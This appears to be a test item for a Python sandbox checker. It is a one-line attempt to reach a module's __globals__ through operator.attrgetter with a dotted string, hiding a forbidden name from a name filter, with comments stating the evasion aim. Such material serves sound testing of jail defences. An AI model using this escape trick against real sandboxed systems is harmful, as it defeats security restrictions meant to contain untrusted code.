# aim: hide the forbidden name behind a dot
# mechanism: attrgetter follows dots
# language: builtins
# reason: every part of a dotted name is checked
# jail: process
# plain: loot

import json
import operator

loot(operator.attrgetter("JSONEncoder.encode.__globals__")(json))
